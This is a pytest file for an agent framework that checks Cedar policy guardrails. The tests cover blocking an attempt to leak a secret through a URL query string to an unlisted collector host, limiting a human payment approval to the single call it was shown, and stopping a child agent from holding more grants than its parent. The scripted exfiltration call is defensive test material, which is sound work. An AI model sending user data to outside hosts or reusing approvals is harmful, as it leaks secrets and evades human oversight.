"""S5, S6 and S18 under other people's loops: data in an address, another call under one approval, a child with more."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("cedarpy", reason='no Cedar: `pip install "perdure[policy]"`')

from perdure import App, Kind, Principal, Run, http_client
from perdure.journal import Approval
from tests.credentials.echo import Echo, echoing

from .loops import LOOPS

SECRET = "passport X1234567"


@pytest.fixture
def listed() -> Iterator[Echo]:
    with echoing() as made:
        yield made


@pytest.fixture
def collector() -> Iterator[Echo]:
    with echoing() as made:
        yield made


async def verdicts(run: Any) -> list[tuple[str, list[str]]]:
    told = [json.loads(e.payload) for e in await run.entries() if e.kind == Kind.VERDICT]
    return [(t["verdict"], t["policies"]) for t in told if t["stage"] == "policy"]


async def fetch(url: str) -> str:
    """Fetch a page."""
    return (await http_client().get(url)).text


HOSTS = """
@id("all") permit (principal, action, resource);
@id("hosts") @reason("only pages of the listed host are fetched")
forbid (principal, action == Action::"fetch", resource) unless {{ context.args.url like "{url}/*" }};
"""
LAX = '@id("all") permit (principal, action, resource);'


@pytest.mark.parametrize("loop", LOOPS)
@pytest.mark.parametrize("lax", [False, True], ids=["by policy", "by the list of hosts"])
async def test_s5_data_in_the_address_of_a_host_that_is_not_listed_goes_nowhere(
    loop: Any, lax: bool, store_url: str, tmp_path: Path, listed: Echo, collector: Echo
) -> None:
    (tmp_path / "base.cedar").write_text(LAX if lax else HOSTS.format(url=listed.url))
    out = f"{collector.url}/?d={SECRET.replace(' ', '+')}"
    agent, go = loop([("fetch", {"url": out}), ("fetch", {"url": f"{listed.url}/menu"})], [fetch])
    app = App(store_url, policies=tmp_path)
    app.effects.declare("read", "fetch", hosts=[listed.url], allow_private=["127.0.0.0/8"])
    app.effects.wraps("desk", agent)

    @app.agent("desk")
    async def desk(run: Run, task: str) -> str:
        return await go(run, task)

    async with app:
        run = await app.start(desk, "What is for lunch?")
        told = await run.result()
        assert "/menu" in told
        if lax:
            assert "none of the hosts" in told
        else:
            assert "only pages of the listed host are fetched" in told
            assert await verdicts(run) == [("deny", ["hosts"]), ("allow", ["all"])]
    assert collector.seen == []
    assert len(listed.seen) == 1


paid: list[tuple[str, int]] = []


def pay(iban: str, cents: int) -> str:
    """Pay somebody."""
    paid.append((iban, cents))
    return f"paid {cents} to {iban}"


GATE = """
@id("all") permit (principal, action, resource);
@id("payments") @gate("human") @role("finance") @reason("payments are approved")
forbid (principal, action == Action::"pay", resource) unless { context.approvals.contains("finance") };
"""


@pytest.mark.parametrize("loop", LOOPS)
async def test_s6_an_approval_is_good_for_the_call_that_was_seen_and_no_other(
    loop: Any, store_url: str, tmp_path: Path
) -> None:
    (tmp_path / "base.cedar").write_text(GATE)
    agent, go = loop(
        [("pay", {"iban": "DE89", "cents": 900}), ("pay", {"iban": "GB33", "cents": 900})], [pay]
    )
    app = App(store_url, policies=tmp_path, approvals={"groups": {"finance": ["eve"]}})
    app.effects.declare("write", "pay")
    app.effects.wraps("desk", agent)
    paid.clear()

    @app.agent("desk")
    async def desk(run: Run, task: str) -> str:
        return await go(run, task)

    async def asked(run: Any, after: str = "") -> Approval:
        """The question that stands open, once it is another than that of the step before."""
        while True:
            seen = app.store.changes()
            for found in await app.open_approvals(run.id):
                if found.step != after:
                    return found
            await app.store.changed(seen, within=0.05)

    async with app:
        run = await app.start(desk, "Pay Marlow")
        first = await asked(run)
        await app.answer(run.id, first.step, approved=True, by="eve", digest=first.digest)
        second = await asked(run, after=first.step)
        assert paid == [("DE89", 900)], "the second is asked about, whatever was said of the first"
        assert dict(second.arguments or {})["iban"] == "GB33"
        await app.answer(
            run.id, second.step, approved=False, by="eve", reason="who is that?", digest=second.digest
        )
        assert "who is that?" in await run.result()
        found = await verdicts(run)  # a run that is picked up again meanwhile is judged again
        assert len(found) >= 2
        assert found == [("needs_approval", ["payments"])] * len(found)
    assert paid == [("DE89", 900)]


GRANTS = """
@id("reads") permit (principal, action in Action::"read", resource);
@id("pays") @reason("who pays has the grant")
permit (principal, action == Action::"pay", resource) when { context.user.grants.contains("payments:write") };
"""


@pytest.mark.parametrize("loop", LOOPS)
async def test_s18_a_child_may_no_more_than_its_parent(loop: Any, store_url: str, tmp_path: Path) -> None:
    (tmp_path / "base.cedar").write_text(GRANTS)
    agent, go = loop([("pay", {"iban": "DE89", "cents": 900})], [pay])
    app = App(store_url, policies=tmp_path)
    app.effects.declare("write", "pay")
    app.effects.wraps("pays", agent)
    paid.clear()
    ann = Principal(
        subject="user:ann",
        issuer="https://login.example.org",
        grants=frozenset({"payments:write", "mail:read"}),
    )

    @app.agent("pays")
    async def pays(run: Run, task: str) -> str:
        return await go(run, task)

    @app.agent("desk")
    async def desk(run: Run, grants: list[str] | None) -> str:
        return await run.child(pays, "Pay Marlow", grants=grants)

    async with app:
        same = await app.start(desk, None, on_behalf_of=ann)
        assert "paid 900 to DE89" in await same.result()
        less = await app.start(desk, ["mail:read"], on_behalf_of=ann)
        assert "nothing in the policies (organisation) permits it" in await less.result()
        more = await app.start(desk, ["payments:write", "payments:approve"], on_behalf_of=ann)
        assert (await more.ending()).status == "failed"
    assert paid == [("DE89", 900)]
